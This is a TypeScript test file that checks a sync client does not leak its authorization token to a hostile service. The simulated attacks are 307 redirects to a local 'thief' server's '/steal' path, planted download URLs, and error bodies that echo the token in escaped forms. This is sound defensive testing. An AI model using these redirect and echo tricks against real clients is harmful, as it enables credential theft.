import { writeFileSync } from 'node:fs';
import type { ServerResponse } from 'node:http';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { rawServer, SECRET, type RawServer } from '../adapters/rest/raw-server.ts';
import { hostileService, row, type HostileService } from './hostile-service.ts';
import { everythingBelow, victimOf, type Victim } from './victim.ts';

let service: HostileService;
let thief: RawServer;
let victim: Victim;

beforeEach(async () => {
  service = await hostileService();
  thief = await rawServer((request, response) => {
    request.resume();
    response.writeHead(200, { 'content-type': 'application/json' }).end('{"count":0,"results":[],"id":"x"}');
  });
  victim = victimOf(service.url);
});

afterEach(async () => {
  await victim.close();
  await service.close();
  await thief.close();
});

/** What reached the thief, whole. */
const stolen = (): string => JSON.stringify(thief.seen);

it.each(['sites', 'list', 'read', 'download', 'write'] as const)(
  'a redirect of %s elsewhere takes no token along',
  async (call) => {
    const [stays, goes, comes] = [row(), row(), row()];
    service.rows.set('bad', [stays, goes]);
    await victim.follow();
    await victim.sync();
    // A record that is gone is read, and then the list of sites is; each of the others has something to do as well.
    service.rows.set('bad', [stays, comes]);
    writeFileSync(join(victim.root, 'Site bad/Other/mine.txt'), 'mine');
    let redirected = 0;
    service.malice = {
      [call]: (_: unknown, response: ServerResponse) => {
        redirected += 1;
        response.writeHead(307, { location: `${thief.url}/steal?t=1` }).end();
      },
    };
    await victim.sync();
    await victim.sync();
    expect(redirected).toBeGreaterThan(0);
    expect(stolen()).not.toContain(SECRET);
    expect(thief.seen.every((request) => request.headers.authorization === undefined)).toBe(true);
    if (call === 'write') expect(thief.seen).toEqual([]);
  },
);

it('addresses in records are never asked with the token', async () => {
  const address = `${thief.url}/blob`;
  service.rows.set('bad', [row({ download_url: address, file: address, entity_uri: address })]);
  await victim.follow();
  const report = await victim.sync();
  expect(report.sites.map(({ downloaded }) => downloaded)).toEqual([1, 0]);
  expect(stolen()).not.toContain(SECRET);
});

const plainly = (text: string): string => JSON.stringify(text).slice(1, -1);
const slashed = (text: string): string => plainly(text).replaceAll('/', String.raw`\/`);
const escaped = (text: string): string =>
  Array.from(text, (letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');

/** Words are cut off after 300 characters: a part of a token would not be known as one. */
it.each([
  ['as it is', plainly, ''],
  ['with its slashes escaped, as PHP does', slashed, ''],
  ['in escapes alone, where words are cut off', escaped, 'x'.repeat(270)],
])('a token that the service repeats %s is in no problem, no log and no file', async (_, spelt, before) => {
  service.rows.set('bad', [row()]);
  await victim.follow();
  for (const status of [400, 500, 200]) {
    service.malice = {
      list: (request, response) => {
        const echo = `You are ${request.headers.authorization ?? ''} and ${SECRET}`;
        response.writeHead(status, { 'content-type': 'application/json' });
        response.end(`{"detail":"${before}${spelt(echo)}"}`);
      },
    };
    const report = await victim.sync();
    expect(report.sites.map((site) => site.problems.length > 0)).toEqual([true, true]);
    const kept = JSON.stringify([report, victim.log, everythingBelow(victim.home)]);
    expect(kept).not.toContain(SECRET.slice(0, 6));
    expect(kept).not.toContain(encodeURIComponent(SECRET));
  }
});
